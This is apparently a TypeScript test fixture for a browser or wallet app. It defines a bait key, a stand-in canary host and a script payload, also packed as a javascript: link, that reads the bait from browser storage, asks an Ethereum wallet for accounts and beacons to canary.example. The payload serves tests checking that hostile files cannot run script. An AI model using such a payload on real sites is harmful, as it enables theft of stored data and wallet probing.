/** The host that no hostile file may reach, by whatever way. */
export const CANARY_HOST = 'canary.example'

/** What a person would not want read; journeys plant it under this name. */
export const BAIT = 'freehold-bait'

/**
 * What every hostile file tries to run: it marks whatever window it reaches,
 * reads the bait out of every store, asks the wallet, opens a dialog, and
 * calls out. Without `<`, `&` and `"`, so that it stands in any markup.
 */
export const SCRIPT = [
  'window.__ran=1',
  'top.__ran=1',
  "parent.postMessage('__ran','*')",
  `localStorage.getItem('${BAIT}')`,
  `sessionStorage.getItem('${BAIT}')`,
  `indexedDB.open('${BAIT}')`,
  "ethereum.request({method:'eth_accounts'})",
  "alert('__ran')",
  `fetch('https://${CANARY_HOST}/ran')`,
  `navigator.sendBeacon('https://${CANARY_HOST}/beacon')`,
]
  .map((line) => `try{${line}}catch(e){}`)
  .join(';')

/** As a part of an address: `javascript:…`. */
export const SCRIPT_LINK = `javascript:${encodeURIComponent(SCRIPT)}`

/** An address on the canary host. */
export function canary(path: string): string {
  return `https://${CANARY_HOST}/${path}`
}
